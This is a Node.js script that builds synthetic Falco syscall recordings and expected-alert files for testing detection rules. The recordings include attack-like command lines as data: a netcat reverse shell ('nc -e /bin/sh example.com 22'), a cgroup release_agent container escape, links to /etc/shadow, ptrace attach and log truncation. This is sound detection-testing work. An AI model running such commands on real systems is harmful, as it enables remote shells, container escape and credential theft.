// Writes the bundled recordings under captures/: JSONL event streams shaped like what Falco
// sees when falcosecurity/event-generator runs an action in a container (containerd-shim ->
// event-generator -> the action), and the lab scenarios of the project's seed documents.
// Field values come from the seeds' real detections where they have them. Every event
// carries every field the upstream stable rules read (null when it has no value), plus the
// fields of kestrel's default rules. Each recording gets an .expect.json beside it, written
// here by hand: which rules fire, how often, with which priority and key output fields.
// Usage (after npm run build): node scripts/make-captures.mjs
import { mkdirSync, writeFileSync } from 'node:fs';
import { loadRulesFiles } from '../dist/src/index.js';

const root = new URL('../captures/', import.meta.url);
const STABLE = new URL('../../shared/falcosecurity-rules/falco_rules.yaml', import.meta.url).pathname;
const DEFAULT = new URL('../rules/', import.meta.url).pathname;

// ---- the fields every event carries ------------------------------------------------------------
const fieldSet = new Set(['evt.num', 'evt.rawtime', 'evt.type', 'evt.dir', 'evt.hostname']);
for (const path of [STABLE, DEFAULT]) {
  const loaded = loadRulesFiles([path]);
  if (!loaded.output) throw new Error(`rules at ${path} do not load`);
  for (const rule of loaded.output.rules) for (const f of [...rule.conditionFields, ...rule.outputFields]) fieldSet.add(f);
}
// Filter-only fd fields are derived from the client/server ones; ancestry is given as arrays.
for (const f of ['fd.ip', 'fd.net', 'fd.snet', 'fd.cnet', 'fd.port', 'fd.proto', 'proc.aname']) fieldSet.delete(f);
for (const f of [...fieldSet]) if (/^proc\.a(name|exe|exepath|cmdline|pid)\[/.test(f)) fieldSet.delete(f);
fieldSet.add('proc.aname');
fieldSet.add('proc.aexepath');
const FIELDS = [...fieldSet].sort();

// ---- context: host, container, processes --------------------------------------------------------
const HOST = { 'evt.hostname': 'lab-node-1' };
const EVENTGEN_CONTAINER = {
  'container.id': 'abc6831a04ae',
  'container.name': 'eventgen',
  'container.image.repository': 'falcosecurity/event-generator',
  'container.image.tag': 'latest',
  'container.privileged': false,
  'container.start_ts': 1763120552324820709n,
};
const NO_CONTAINER = { 'container.id': 'host', 'container.name': 'host', 'container.privileged': false };
const ROOT = { 'user.name': 'root', 'user.uid': 0, 'user.loginuid': -1, 'user.loginname': null, 'group.gid': 0, 'group.name': 'root' };

/** A process: its own fields plus its ancestry (parent first). */
function proc(name, { exepath, cmdline, pid, parent, cwd = '/', tty = 0, container = EVENTGEN_CONTAINER, user = ROOT, extra = {} }) {
  const args = cmdline.split(' ').slice(1).join(' ');
  const ancestors = parent ? [parent, ...parent.ancestors] : [];
  return {
    name,
    ancestors,
    fields: {
      ...container,
      ...user,
      'proc.name': name,
      'proc.exe': cmdline.split(' ')[0],
      'proc.exepath': exepath,
      'proc.cmdline': cmdline,
      'proc.args': args,
      'proc.pid': pid,
      'proc.vpid': pid,
      'proc.ppid': parent?.fields['proc.pid'] ?? null,
      'proc.pname': parent?.name ?? null,
      'proc.pexe': parent?.fields['proc.exe'] ?? null,
      'proc.pexepath': parent?.fields['proc.exepath'] ?? null,
      'proc.pcmdline': parent?.fields['proc.cmdline'] ?? null,
      'proc.aname': ancestors.map((a) => a.name),
      'proc.aexepath': ancestors.map((a) => a.fields['proc.exepath']),
      'proc.cwd': cwd,
      'proc.tty': tty,
      'proc.sname': ancestors.at(-1)?.name ?? name,
      'proc.is_exe_writable': false,
      'proc.is_exe_upper_layer': false,
      'proc.is_exe_from_memfd': false,
      'proc.is_vpgid_leader': false,
      'thread.tid': pid,
      'thread.cap_effective': 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP',
      'thread.cap_permitted': 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP',
      ...extra,
    },
  };
}

const shim = proc('containerd-shim', {
  exepath: '/usr/bin/containerd-shim-runc-v2',
  cmdline: '/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id abc6831a04ae -address /run/containerd/containerd.sock',
  pid: 2811,
  container: NO_CONTAINER,
});

function eventGenerator(action) {
  return proc('event-generator', { exepath: '/bin/event-generator', cmdline: `/bin/event-generator run syscall.${action} --sleep 0`, pid: 4301, parent: shim });
}

// ---- streams ------------------------------------------------------------------------------------
class Stream {
  events = [];
  time = 1763120567000000000n;
  /** One event of process `p` with event-specific fields. */
  add(p, type, specific = {}) {
    this.time += 35217n;
    this.events.push({ ...HOST, ...p.fields, 'evt.type': type, 'evt.dir': '<', 'evt.rawtime': this.time, ...specific });
    return this;
  }
  /** A process starting: the execve, then its dynamic loader and libraries, then some noise. */
  spawn(p) {
    this.add(p, 'execve', { 'evt.res': 'SUCCESS', 'evt.rawres': 0, 'evt.arg.flags': 'EXE_WRITABLE', 'proc.is_exe_writable': p.fields['proc.is_exe_writable'] });
    this.add(p, 'brk', { 'evt.res': 'SUCCESS' });
    this.open(p, '/etc/ld.so.cache', 'r', 3);
    this.add(p, 'fstat', { 'fd.num': 3, 'fd.name': '/etc/ld.so.cache', 'fd.typechar': 'f', 'evt.res': 'SUCCESS' });
    this.add(p, 'mmap', { 'evt.res': 'SUCCESS' });
    this.add(p, 'close', { 'fd.num': 3, 'fd.name': '/etc/ld.so.cache', 'fd.typechar': 'f', 'evt.res': 'SUCCESS', 'evt.rawres': 0 });
    this.open(p, '/lib/x86_64-linux-gnu/libc.so.6', 'r', 3);
    this.add(p, 'read', { 'fd.num': 3, 'fd.name': '/lib/x86_64-linux-gnu/libc.so.6', 'fd.typechar': 'f', 'evt.res': 'SUCCESS', 'evt.rawres': 832 });
    this.add(p, 'mmap', { 'evt.res': 'SUCCESS' });
    this.add(p, 'mprotect', { 'evt.res': 'SUCCESS' });
    return this.add(p, 'close', { 'fd.num': 3, 'fd.typechar': 'f', 'fd.name': '/lib/x86_64-linux-gnu/libc.so.6', 'evt.res': 'SUCCESS', 'evt.rawres': 0 });
  }
  /** An openat of `path` for read (r), write (w) or both, with the flags libsinsp prints. */
  open(p, path, mode, fd, extraFlags = '') {
    const flags = { r: 'O_RDONLY', w: 'O_WRONLY', rw: 'O_RDWR' }[mode] + (extraFlags ? `|${extraFlags}` : '') + '|O_CLOEXEC';
    const dir = path.slice(0, path.lastIndexOf('/')) || '/';
    return this.add(p, 'openat', {
      'fd.num': fd,
      'fd.name': path,
      'fd.nameraw': path,
      'fd.directory': dir,
      'fd.filename': path.slice(path.lastIndexOf('/') + 1),
      'fd.typechar': 'f',
      'fd.type': 'file',
      'evt.arg.flags': flags,
      'evt.arg.name': path,
      'evt.is_open_read': mode !== 'w',
      'evt.is_open_write': mode !== 'r',
      'evt.is_open_exec': false,
      'evt.res': 'SUCCESS',
      'evt.rawres': fd,
    });
  }
  /** JSONL with every field present (null when the event has no value). */
  jsonl() {
    return this.events
      .map((e, i) => {
        const full = {};
        for (const f of FIELDS) full[f] = e[f] ?? null;
        for (const [k, v] of Object.entries(e)) if (!(k in full)) full[k] = v;
        full['evt.num'] = i + 1;
        return JSON.stringify(full, (_k, v) => (typeof v === 'bigint' ? `~big~${v}` : v)).replace(/"~big~(-?\d+)"/g, '$1');
      })
      .join('\n') + '\n';
  }
}

/** A recording with the alerts expected from the stable rules and from kestrel's default rules. */
function record(group, name, description, stream, expect) {
  if (expect.stable) {
    // Falco appends the container plugin's suggested fields: the seed's detections show them.
    const container = { 'container.id': 'abc6831a04ae', 'container.name': 'eventgen', 'container.image.repository': 'falcosecurity/event-generator', 'container.image.tag': 'latest' };
    for (const alert of expect.stable) alert.fields = { ...alert.fields, ...container };
  }
  const dir = new URL(`${group}/`, root);
  mkdirSync(dir, { recursive: true });
  writeFileSync(new URL(`${name}.jsonl`, dir), stream.jsonl());
  writeFileSync(new URL(`${name}.expect.json`, dir), JSON.stringify({ description, ...expect }, null, 2) + '\n');
}

// ---- event-generator actions --------------------------------------------------------------------
{
  const eg = eventGenerator('DetectReleaseAgentFileContainerEscapes');
  const sh = proc('sh', { exepath: '/bin/busybox', cmdline: "sh -c echo 'hello world' > release_agent", pid: 4317, parent: eg, extra: { 'thread.cap_effective': 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_SYS_ADMIN CAP_SETUID CAP_SETGID' } });
  const s = new Stream().spawn(eg).spawn(sh);
  s.open(sh, '/release_agent', 'w', 3, 'O_CREAT|O_TRUNC');
  s.add(sh, 'write', { 'fd.num': 3, 'fd.name': '/release_agent', 'fd.typechar': 'f', 'evt.res': 'SUCCESS', 'evt.rawres': 12 });
  record('event-generator', 'detect-release-agent-file-container-escapes', 'syscall.DetectReleaseAgentFileContainerEscapes: a shell writes a cgroup release_agent file inside a container', s, {
    stable: [{ rule: 'Detect release_agent File Container Escapes', priority: 'Critical', count: 1, fields: { 'fd.name': '/release_agent', 'proc.name': 'sh', 'proc.exepath': '/bin/busybox', 'proc.pname': 'event-generator', 'user.loginuid': -1, 'container.id': 'abc6831a04ae' } }],
    default: [{ rule: 'Container escape through a cgroup release_agent', priority: 'Critical', count: 1, fields: { 'fd.name': '/release_agent', 'proc.name': 'sh' } }],
  });
}
{
  const eg = eventGenerator('CreateSymlinkOverSensitiveFiles');
  const s = new Stream().spawn(eg);
  s.add(eg, 'symlinkat', { 'evt.arg.target': '/etc/shadow', 'evt.arg.linkpath': '/tmp/created-by-event-generator', 'evt.res': 'SUCCESS', 'evt.rawres': 0 });
  record('event-generator', 'create-symlink-over-sensitive-files', 'syscall.CreateSymlinkOverSensitiveFiles: a symlink pointing at /etc/shadow', s, {
    stable: [{ rule: 'Create Symlink Over Sensitive Files', priority: 'Warning', count: 1, fields: { 'evt.arg.target': '/etc/shadow', 'evt.arg.linkpath': '/tmp/created-by-event-generator', 'proc.name': 'event-generator' } }],
    default: [{ rule: 'Link to a sensitive file', priority: 'Warning', count: 1, fields: { 'proc.name': 'event-generator' } }],
  });
}
{
  const eg = eventGenerator('CreateHardlinkOverSensitiveFiles');
  const s = new Stream().spawn(eg);
  s.add(eg, 'linkat', { 'evt.arg.oldpath': '/etc/shadow', 'evt.arg.newpath': '/tmp/created-by-event-generator', 'evt.res': 'SUCCESS', 'evt.rawres': 0 });
  record('event-generator', 'create-hardlink-over-sensitive-files', 'syscall.CreateHardlinkOverSensitiveFiles: a hard link to /etc/shadow', s, {
    stable: [{ rule: 'Create Hardlink Over Sensitive Files', priority: 'Warning', count: 1, fields: { 'evt.arg.oldpath': '/etc/shadow', 'evt.arg.newpath': '/tmp/created-by-event-generator' } }],
    default: [{ rule: 'Link to a sensitive file', priority: 'Warning', count: 1, fields: { 'proc.name': 'event-generator' } }],
  });
}
{
  const eg = eventGenerator('PtraceAttachContainer');
  const s = new Stream().spawn(eg);
  s.add(eg, 'ptrace', { 'evt.arg.request': 'PTRACE_ATTACH', 'evt.res': 'SUCCESS', 'evt.rawres': 0 });
  record('event-generator', 'ptrace-attach-container', 'syscall.PtraceAttachContainer: PTRACE_ATTACH to another process', s, {
    stable: [{ rule: 'PTRACE attached to process', priority: 'Warning', count: 1, fields: { 'proc.name': 'event-generator', 'proc.pcmdline': shim.fields['proc.cmdline'] } }],
    default: [{ rule: 'Process attached with ptrace', priority: 'Warning', count: 1, fields: { 'evt.arg.request': 'PTRACE_ATTACH' } }],
  });
}
{
  const eg = eventGenerator('ClearLogActivities');
  const s = new Stream().spawn(eg);
  s.open(eg, '/var/log/syslog', 'w', 3, 'O_TRUNC');
  s.add(eg, 'close', { 'fd.num': 3, 'fd.name': '/var/log/syslog', 'fd.typechar': 'f', 'evt.res': 'SUCCESS', 'evt.rawres': 0 });
  record('event-generator', 'clear-log-activities', 'syscall.ClearLogActivities: /var/log/syslog opened with O_TRUNC', s, {
    stable: [{ rule: 'Clear Log Activities', priority: 'Warning', count: 1, fields: { 'fd.name': '/var/log/syslog', 'proc.name': 'event-generator' } }],
    default: [{ rule: 'Log file truncated', priority: 'Warning', count: 1, fields: { 'fd.name': '/var/log/syslog' } }],
  });
}
{
  const eg = eventGenerator('NetcatRemoteCodeExecutionInContainer');
  const nc = proc('nc', { exepath: '/usr/bin/nc', cmdline: 'nc -e /bin/sh example.com 22', pid: 4322, parent: eg });
  const s = new Stream().spawn(eg).spawn(nc);
  record('event-generator', 'netcat-remote-code-execution-in-container', 'syscall.NetcatRemoteCodeExecutionInContainer: nc started with -e in a container', s, {
    stable: [{ rule: 'Netcat Remote Code Execution in Container', priority: 'Warning', count: 1, fields: { 'proc.name': 'nc', 'proc.exepath': '/usr/bin/nc', 'proc.cmdline': 'nc -e /bin/sh example.com 22' } }],
    default: [{ rule: 'Reverse shell with netcat', priority: 'Warning', count: 1, fields: { 'proc.cmdline': 'nc -e /bin/sh example.com 22' } }],
  });
}

// ---- labs ---------------------------------------------------------------------------------------
{
  // Seed 000's custom rule: a write below /usr/local/bin inside container lab9-helper (alpine:3.19),
  // and the writes that must not fire: on the host, and elsewhere in the container.
  const lab = { 'container.id': 'a12356e689e8', 'container.name': 'lab9-helper', 'container.image.repository': 'alpine', 'container.image.tag': '3.19', 'container.privileged': false, 'container.start_ts': 1763120700000000000n };
  const containerShim = proc('containerd-shim', { exepath: '/usr/bin/containerd-shim-runc-v2', cmdline: '/usr/bin/containerd-shim-runc-v2 -namespace moby -id a12356e689e8', pid: 3100, container: NO_CONTAINER });
  const ash = proc('sh', { exepath: '/bin/busybox', cmdline: 'sh', pid: 3120, parent: containerShim, container: lab, tty: 34816 });
  const touch = proc('touch', { exepath: '/bin/busybox', cmdline: 'touch /usr/local/bin/custom-rule.txt', pid: 3133, parent: ash, container: lab, tty: 34816 });
  const other = proc('touch', { exepath: '/bin/busybox', cmdline: 'touch /tmp/notes.txt', pid: 3134, parent: ash, container: lab, tty: 34816 });
  const hostShell = proc('bash', { exepath: '/usr/bin/bash', cmdline: '-bash', pid: 2001, container: NO_CONTAINER, tty: 34817 });
  const hostTouch = proc('touch', { exepath: '/usr/bin/touch', cmdline: 'touch /usr/local/bin/host-tool', pid: 2002, parent: hostShell, container: NO_CONTAINER, tty: 34817 });
  const s = new Stream().spawn(touch);
  s.open(touch, '/usr/local/bin/custom-rule.txt', 'w', 3, 'O_LARGEFILE|O_TRUNC|O_CREAT');
  s.spawn(other).open(other, '/tmp/notes.txt', 'w', 3, 'O_CREAT');
  s.spawn(hostTouch).open(hostTouch, '/usr/local/bin/host-tool', 'w', 3, 'O_CREAT');
  record('labs', 'usr-local-bin-write', 'Seed 000 custom rule: one write below /usr/local/bin in container lab9-helper fires; a container write in /tmp and a host write below /usr/local/bin do not', s, {
    default: [{ rule: 'Write below /usr/local/bin in container', priority: 'Warning', count: 1, fields: { 'fd.name': '/usr/local/bin/custom-rule.txt', 'container.name': 'lab9-helper', 'container.image.repository': 'alpine', 'container.image.tag': '3.19', 'user.name': 'root' } }],
  });
}
{
  // Seed 003 docker lab: an unexpected process and an unexpected listening port in an nginx container.
  const web = { 'container.id': '5f3c2e9d8a71', 'container.name': 'web', 'container.image.repository': 'nginx', 'container.image.tag': 'latest', 'container.privileged': false, 'container.start_ts': 1763120800000000000n };
  const nginx = proc('nginx', { exepath: '/usr/sbin/nginx', cmdline: 'nginx -g daemon off;', pid: 5001, container: web });
  const tool = proc('apt-get', { exepath: '/usr/bin/apt-get', cmdline: 'apt-get install -y netcat', pid: 5050, parent: nginx, container: web });
  const s = new Stream().spawn(tool);
  s.add(nginx, 'accept4', { 'fd.num': 7, 'fd.typechar': '4', 'fd.type': 'ipv4', 'fd.l4proto': 'tcp', 'fd.cip': '172.17.0.1', 'fd.cport': 51234, 'fd.sip': '172.17.0.2', 'fd.sport': 80, 'fd.name': '172.17.0.1:51234->172.17.0.2:80', 'evt.rawres': 7, 'evt.res': 'SUCCESS' });
  s.add(nginx, 'accept4', { 'fd.num': 8, 'fd.typechar': '4', 'fd.type': 'ipv4', 'fd.l4proto': 'tcp', 'fd.cip': '172.17.0.1', 'fd.cport': 51240, 'fd.sip': '172.17.0.2', 'fd.sport': 8888, 'fd.name': '172.17.0.1:51240->172.17.0.2:8888', 'evt.rawres': 8, 'evt.res': 'SUCCESS' });
  record('labs', 'nginx-container', 'Seed 003 docker lab: apt-get started in an nginx container, then connections accepted on port 80 (fine) and 8888 (not)', s, {
    default: [
      { rule: 'Unauthorized process on nginx containers', priority: 'Warning', count: 1, fields: { 'proc.cmdline': 'apt-get install -y netcat', 'container.image.repository': 'nginx' } },
      { rule: 'Unauthorized port on nginx containers', priority: 'Warning', count: 1, fields: { 'fd.sport': 8888 } },
    ],
  });
}
console.log(`recordings written with ${FIELDS.length} fields per event`);
